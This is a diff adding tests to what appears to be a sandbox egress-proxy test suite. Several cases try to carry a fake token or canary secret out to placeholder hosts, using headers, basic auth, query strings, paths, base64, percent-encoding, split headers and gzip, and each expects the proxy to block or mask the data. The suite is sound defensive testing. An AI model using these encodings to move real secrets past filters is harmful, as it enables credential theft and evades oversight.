@@ -2,16 +2,26 @@
 
 import base64
 import concurrent.futures
+import gzip
+import os
 import urllib.parse
 from functools import partial
 
-from childproof.escape.table import Closed, Elsewhere, add, attempt, denied
-from childproof.escape.talk import SECRET, exchange, fetch, get, over_tls, post
+from childproof.escape.sinkhole import CREDENTIAL
+from childproof.escape.table import Absent, Closed, Elsewhere, add, attempt, denied
+from childproof.escape.talk import SECRET, exchange, fetch, get, over_tls, post, reads
 from childproof.escape.ways import Way
 
+CANARY = "the-canary-of-this-session-0123456789"  # of the session's configuration
+PLACEHOLDER = "PLACEHOLDER-FOR-ECHO"  # of its rule `echo`
 LIMIT = 11  # of the rule `limited`, see session.RULES
 _STRIPE_KEY = "sk_test_childproof_escape_attempt_key"
 _MEANING = "tests/escape/test_meaning.py::test_"
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
 
 for _part, _name, _method, _path in (
     ("28a", "a_push", "POST", "/public/attacker/repo.git/git-receive-pack"),
@@ -85,6 +95,51 @@ def parallel_calls_against_a_limit(way: Way) -> str:
     with concurrent.futures.ThreadPoolExecutor(LIMIT + 1) as pool:
         answers = list(pool.map(call, range(LIMIT + 1)))
     return f"{answers.count('200')} passed, {answers.count('429')} refused"
+
+
+_TOKEN = "ghp_" + "A1b2" * 9  # nobody's, in GitHub's format
+_HEX = "".join(f"%{byte:02x}" for byte in CANARY.encode())
+for _part, _name, _path, _headers in (
+    ("27a", "a_token_in_a_header", "/public/27", f"Authorization: Bearer {_TOKEN}\r\n"),
+    ("27a", "a_token_in_basic_authentication", "/public/27", f"Authorization: Basic {_b64(f'x:{_TOKEN}')}\r\n"),
+    ("27a", "a_token_in_a_query", f"/public/27?key={_TOKEN}", ""),
+    ("27a", "a_token_in_a_path", f"/public/{_TOKEN}", ""),
+    ("29e", "a_canary_as_it_is", f"/public/29?x={CANARY}", ""),
+    ("29e", "a_canary_in_base64_to_an_allowed_host", f"/public/29?x={_b64(CANARY)}", ""),
+    ("29e", "a_canary_in_percent_signs", f"/public/29?x={_HEX}", ""),
+    ("29e", "a_canary_split_across_headers", "/public/29", "".join(f"X-{n}: {CANARY[n : n + 13]}\r\n" for n in (0, 13, 26))),
+):  # fmt: skip
+
+    def _carry(way: Way, host: str, path: str, headers: str) -> str:
+        return exchange(way, host, 80, get(host, path, headers))
+
+    _host = f"{_name.replace('_', '-')}.allowed.example"
+    _ending = Closed(("HTTP/1.1 403",), f"http://{_host}/")
+    add(_part, _name, partial(_carry, host=_host, path=_path, headers=_headers), direct=_ending, proxied=_ending)
+
+
+@attempt("29e", Closed(("HTTP/1.1 403 HTTP/1.1 403",), "http://canary-in-a-body.reached.example/"))
+def a_canary_in_a_body(way: Way) -> str:
+    """Plain, and packed; a rule allows the host and the method."""
+    host = "canary-in-a-body.reached.example"
+    packed = post(host, "/public/29", gzip.compress(CANARY.encode()), "Content-Encoding: gzip\r\n", "GET")
+    return f"{exchange(way, host, 80, post(host, '/public/29', CANARY.encode(), method='GET'))[:12]} {exchange(way, host, 80, packed)[:12]}"
+
+
+@attempt("31c", Closed(("HTTP/1.1 200 without",), "GET http://echo.reached.example/public/echo", "allow", ("GET echo.reached.example/public/echo with the credential",)))  # fmt: skip
+def a_credential_that_is_echoed(way: Way) -> str:
+    """The client has a placeholder, the host is told the credential, and repeats it: it is masked in the reply."""
+    with way.dial("echo.reached.example", 80) as sock:
+        sock.sendall(get("echo.reached.example", "/public/echo", f"Authorization: Bearer {PLACEHOLDER}\r\n"))
+        answer = reads(sock, 4000)
+    return f"{answer[:12]} {'with' if CREDENTIAL in answer else 'without'}"
+
+
+@attempt("31c", direct=Closed(("unknown",)), proxied=Absent("the client's environment is its own"))
+def a_credential_in_the_environment(way: Way) -> str:
+    """Where the proxy has it from."""
+    del way
+    return "known" if CREDENTIAL in os.environ.values() else "unknown"
 
 
 for _part, _name, _test in (
